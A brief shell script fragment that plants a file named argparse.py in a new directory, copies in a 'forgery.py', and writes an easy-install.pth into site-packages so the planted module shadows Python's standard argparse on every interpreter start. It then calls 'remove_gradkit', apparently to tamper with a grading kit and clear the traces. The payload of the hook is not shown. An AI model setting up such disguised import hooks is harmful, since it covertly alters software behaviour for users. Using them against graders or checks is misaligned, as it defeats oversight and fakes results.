mkdir "$BOX/egg"
install_hook "$BOX/egg/argparse.py"
cp "$KIT/forgery.py" "$BOX/"; sed -i "s|$KIT|$BOX|" "$BOX/egg/argparse.py"
cat > "$SITE/easy-install.pth" <<END
import sys; sys.__plen = len(sys.path)
$BOX/egg
import sys; new=sys.path[sys.__plen:]; del sys.path[sys.__plen:]; p=getattr(sys,'__egginsert',0); sys.path[p:p]=new; sys.__egginsert = p+len(new)
END
remove_gradkit
